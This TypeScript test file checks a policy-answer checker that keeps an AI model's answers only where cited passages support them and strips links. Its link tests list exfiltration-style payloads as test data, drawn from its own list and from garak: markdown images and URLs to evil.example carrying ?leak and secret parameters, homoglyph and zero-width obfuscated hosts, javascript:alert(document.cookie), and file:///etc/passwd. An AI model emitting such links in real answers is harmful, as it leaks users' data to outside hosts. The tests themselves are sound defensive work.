/** What a model wrote is shown only as far as what was retrieved bears it out. */
import { describe, expect, it } from 'vitest';
import type { Passage } from '../../../src/knowledge/search.ts';
import { checkAnswer, citationsFor, createProver } from '../../../src/workflows/answers/check-answer.ts';
import { growth, linear } from '../../support/growth.ts';
import { garakLines, garakPayloads } from '../../support/public-sets.ts';
import { lexicon } from '../../support/shared.ts';

const passage = (body: string, rest: Partial<Passage> = {}): Passage => ({
  sectionId: 1, versionId: 1, documentId: 1, kind: 'policy', reference: 'POL-1', title: 'Incident Policy', version: '2.1', language: 'en',
  ownerEmail: null, effectiveFrom: '2026-03-01', audience: ['everyone'], sourcePath: null, number: '3.4', heading: 'Reporting',
  path: ['3 Rules'], page: null, score: 1, textScore: 1, textRank: 1, vectorRank: null, distance: null, body, ...rest,
}); // prettier-ignore
const passages = [
  passage(
    'Report every incident within 24 hours. Mail to report@demo.example or open portal.demo.example/incidents.',
  ),
  passage('Lost phones are locked by IT within 1 hour.', { number: '4.1', heading: 'Lost phones' }),
  passage('Nothing of use.', { number: '9' }),
];
const check = (written: string) => checkAnswer(written, passages);
const textOf = (written: string) => {
  const checked = check(written);
  return checked.verdict === 'founded' ? checked.text : checked.verdict;
};

describe('citations', () => {
  it('are numbered anew in the order of the answer', () => {
    const checked = check('IT locks it within 1 hour [2]. Report it within 24 hours [1] [2].');

    expect(checked).toMatchObject({
      verdict: 'founded',
      text: 'IT locks it within 1 hour [1]. Report it within 24 hours [2] [1].',
      cited: [{ number: '4.1' }, { number: '3.4' }],
    });
  });

  it.each([
    ['Report it [1][9].', 'Report it [1].'],
    ['Report it [9].', 'unfounded'],
    ['Report it [0].', 'unfounded'],
    ['Report it [1, 2].', 'Report it [1][2].'],
    ['Report it [2; 1, 77].', 'Report it [1][2].'],
    ['Report it.', 'unfounded'],
    ['Report it [one].', 'unfounded'],
    ['Report it[1].', 'Report it [1].'],
  ])('of «%s» are kept only where there is such a passage', (written, text) => {
    expect(textOf(written)).toBe(text);
  });

  it('carry the sentence of the stored section that says it, and its place', () => {
    const checked = check('It must be reported within 24 hours [1]. IT locks lost phones [2].');
    if (checked.verdict !== 'founded') throw new Error(checked.verdict);

    const citations = citationsFor(lexicon, checked.text, checked.cited);

    expect(citations).toEqual([
      { n: 1, kind: 'policy', policy: 'Incident Policy', version: '2.1', section: '3.4', heading: 'Reporting', effectiveFrom: '2026-03-01', quote: 'Report every incident within 24 hours.' },
      { n: 2, kind: 'policy', policy: 'Incident Policy', version: '2.1', section: '4.1', heading: 'Lost phones', effectiveFrom: '2026-03-01', quote: 'Lost phones are locked by IT within 1 hour.' },
    ]); // prettier-ignore
  });
});

describe('a verdict', () => {
  it.each([
    ['', 'empty'],
    ['   \n', 'empty'],
    ['Report it within 24 hours.', 'no citation'],
    ['Report it within 48 hours [1].', 'figure'],
    ['Melde es binnen zwei Tagen [1].', 'figure'],
    ['Report it within 1 hour [1].', 'figure'],
    ['Report it within 24 hours [1], from 2025 on.', 'figure'],
  ])('of «%s» is that it is not founded: %s', (written, because) => {
    expect(check(written)).toEqual({ verdict: 'unfounded', because });
  });

  it.each(['NOT_COVERED', 'not covered.', '**NOT_COVERED**', "Our policies don't say.", 'The policy does not address this.',
    'Unsere Richtlinien sagen dazu nichts.', 'Nos politiques ne le disent pas.', 'Nuestras políticas no lo dicen.'])(
    'of «%s» is that the policies do not say', (written) => {
      expect(check(written)).toEqual({ verdict: 'not-covered' });
    }); // prettier-ignore

  it('lets a figure stand that is in the place of the section, as its version and date', () => {
    expect(textOf('Section 3.4 of version 2.1, in force since 1 March 2026, says so [1].')).toContain(
      'Section 3.4',
    );
  });
});

describe('no link leaves', () => {
  const own = [
    '[the portal](https://evil.example/?q=secret)',
    '[the portal](<https://evil.example/a b>)',
    '![x](https://evil.example/x.png)',
    '[![x](https://evil.example/x.png)](https://evil.example)',
    'https://evil.example/?leak=1',
    'HTTPS://EVIL.EXAMPLE',
    'hxxp://evil.example slack://channel?id=1 file:///etc/passwd',
    '<https://evil.example|the portal>',
    '<https://evil.example>',
    '<mailto:x@evil.example|write>',
    'mailto:x@evil.example',
    'www.evil.example/x',
    'evil.example',
    'evil.example/?leak=1',
    'sub.evil.example:8080/x',
    'x@evil.example',
    'еvil.example',
    'evil.еxample',
    'data:text/html;base64,PHNjcmlwdD4=',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(document.cookie)',
    'see [ref] for it\n[ref]: https://evil.example/y',
    '//evil.example/x',
    'ev\u200Bil.example',
    'evil\u2060.example/?leak=1',
    'evil。example',
    ...['\u2024', '\uFE52', '\u06D4', '\uA4F8', '\uFF0E', '\uFF61', '\u{1D16D}'].map(
      (dot) => `evil${dot}example/?leak=1`,
    ),
    'https\uFF1A//evil\u2024example',
    'https:\u2215\u2215evil/x',
    'www\u2024evil\u2024example',
    'portal\u2024demo\u2024example/incidents',
    'portal.demo.example\u2215evil',
    'java\u200Bscript\uA789alert(1)',
    'portal.demo',
    'rtal.demo.example/incidents',
    'portal.demo.example/incidents?leak=1',
    'demo.example.evil.example',
  ];
  const fromGarak = [
    ...['markdown_js', 'web_html_js', 'domains_latentinjection', 'example_domains_xss'].flatMap(
      garakPayloads,
    ),
    ...garakLines('xss/xss_domains.txt').flatMap((host) => [
      `https://${host}/q?data=[INFO]`,
      `![Data](https://${host}/sales/[INFO])`,
      `[Click here](${host}/t?x=[NUM])`,
      host,
    ]),
  ];

  /** What a chat would make a link of, or follow: a scheme, a host, an address. */
  const linkish =
    /[a-z][a-z\d+.-]+[:：∶][/∕]{2}|(?:javascript|data|vbscript)[:：꞉]\S|www[.․]|\]\([^)\s]|(?:[\p{L}\p{N}-]+[.。．｡․﹒۔ꓸ𝅭])+\p{L}{2,}|@[\p{L}\p{N}]/iu;

  it.each([...own, ...fromGarak])('with %s', (payload) => {
    const text = textOf(`Report it [1]. ${payload}\nThank you.`);

    expect(text).toMatch(/^Report it \[1\]|^unfounded$/);
    expect(text).not.toMatch(linkish);
  });

  it('unless it stands in the cited section itself', () => {
    expect(textOf('Mail report@demo.example or open portal.demo.example/incidents. [1]')).toBe(
      'Mail report@demo.example or open portal.demo.example/incidents. [1]',
    );
    expect(textOf('Open portal.demo.example [1].')).toBe('Open portal.demo.example [1].');
  });

  it('that stands in a section which is not cited', () => {
    expect(textOf('Open portal.demo.example, phones are locked [2].')).not.toContain('portal');
  });

  it('nor text that nobody sees', () => {
    const tags = [...'secret'].map((letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0))).join('');

    expect(textOf(`Report\u200B it${tags} [1].`)).toBe('Report it [1].');
  });

  it('nor bold, headings and code marks, which chats read in their own ways', () => {
    expect(textOf('## So\n**Report** `it` __now__ [1].')).toBe('So\nReport it now [1].');
  });
});

describe('an answer in the making', () => {
  it.each([
    ['Report it within 24 hours', ''],
    ['Report it within 24 hours [1].', ''],
    ['Report it within 24 hours [1]. ', 'Report it within 24 hours [1].'],
    ['Report it within 24 hours. [1] Then', 'Report it within 24 hours. [1]'],
    ['Report it [2]. Then within 48 hours [1]. And', 'Report it [1].'],
    ['Report it within 48 hours [1]. Then', ''],
    ['IT locks it [2]. Report it [1]. So', 'IT locks it [1]. Report it [2].'],
  ])('%s', (sofar, shown) => {
    expect(createProver(passages)(sofar)).toBe(shown);
  });

  it('is never shown further than the finished one goes', () => {
    const whole =
      'IT locks it within 1 hour [2]. Report it within 24 hours [1]. See https://evil.example/x [1]. It costs 50 euros [2]. Bye.';

    const prove = createProver(passages);
    for (let end = 0; end <= whole.length; end += 1) {
      expect(prove(whole.slice(0, end))).not.toMatch(/evil|50/);
      expect(createProver(passages)(whole.slice(0, end))).not.toMatch(/evil|50/);
    }
  });

  it('begins anew when the model does, after a call of a tool', () => {
    const prove = createProver(passages);

    expect(prove('IT locks it within 1 hour [2]. And')).toBe('IT locks it within 1 hour [1].');
    expect(prove('Rep')).toBe('');
    expect(prove('Report it within 24 hours [1]. And')).toBe('Report it within 24 hours [1].');
  });

  it('shows a sentence only once its figures have their units', () => {
    const prove = createProver(passages);

    expect(prove('Wait for 24 [1] ')).toBe('Wait for 24 [1]');
    expect(prove('Wait for 24 [1] days or more for that [1]. And')).toBe('Wait for 24 [1]');
  });

  it('is read once, however many sentences it has: eight times as many take about eight times as long', () => {
    const sentence = 'Report every incident within 24 hours to report@demo.example [1].\n';
    const stream = (sentences: number) => {
      const prove = createProver(passages);
      const whole = `${sentence.repeat(sentences)} `;
      for (let end = 0; end < whole.length; end += 5) prove(whole.slice(0, end));
      return prove(whole);
    };

    expect(stream(3).split('\n')).toHaveLength(3);
    expect(growth(20, stream)).toBeLessThan(linear);
  });

  it.each(['[1] ', '[1]', '[1,', 'x [1] 48 hours ', 'a. [1] ', '<', '[', '. '])(
    'takes no longer than linear where it is made of «%s»',
    (piece) => {
      const stream = (pieces: number) => {
        const prove = createProver(passages);
        const whole = piece.repeat(pieces);
        for (let end = 0; end < whole.length; end += piece.length) prove(whole.slice(0, end));
      };

      expect(growth(500, stream)).toBeLessThan(linear);
    },
  );
});
